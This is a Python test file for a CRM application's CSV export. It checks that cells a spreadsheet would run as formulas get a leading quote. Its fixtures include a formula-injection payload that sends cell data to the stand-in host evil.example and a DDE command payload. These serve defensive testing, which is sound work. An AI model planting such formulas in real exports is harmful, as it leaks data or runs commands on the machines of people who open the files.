"""CSV files for spreadsheets: text a rep typed that a spreadsheet would run as a formula is
neutralised in report CSVs and in ``fieldcrm export``; numbers are not changed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from fieldcrm.domain.spreadsheet import safe_cell
from fieldcrm.reports import compute_report
from fieldcrm.reports.export import write_csv
from fieldcrm.store import Store
from fieldcrm.store.export import export_csv
from tests.helpers.report_area import NOVEMBER, Area

PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (PLANTED, "'" + PLANTED),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+49 40 123456", "'+49 40 123456"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12,5", "-12,5"),
        ("+7", "+7"),
        ("Müller & Söhne", "Müller & Söhne"),
        (-3, -3),
        (-2.5, -2.5),
    ],
)
def test_csv_formula_injection_cells(typed: object, written: object) -> None:
    assert safe_cell(typed) == written


def test_csv_formula_injection_neutralised_in_the_overdue_report(area: Area) -> None:
    area.store.update("customer", area.ids["C2"], {"name": PLANTED})
    with area.store.read() as conn:
        table = compute_report(conn, "overdue", NOVEMBER)
    out = io.StringIO()
    write_csv(table, out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    planted = next(r for r in rows if r["Number"] == "C2")
    assert "'" + PLANTED in planted.values()
    assert planted["Days over cadence"] == "46", "numbers are written as they are"
    assert not any(v.startswith("=") for r in rows for v in r.values())


def test_csv_formula_injection_neutralised_in_the_export(tmp_path: Path) -> None:
    store = Store(tmp_path / "fieldcrm.db")
    try:
        store.create(
            "customer",
            {"name": PLANTED, "phone": "+49 40 123", "latitude": -12.5, "longitude": 10.0},
        )
        out = io.StringIO()
        assert export_csv(store, out, "customer") == 1
    finally:
        store.close()
    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert row["name"] == "'" + PLANTED and row["phone"] == "'+49 40 123"
    assert row["latitude"] == "-12.5"
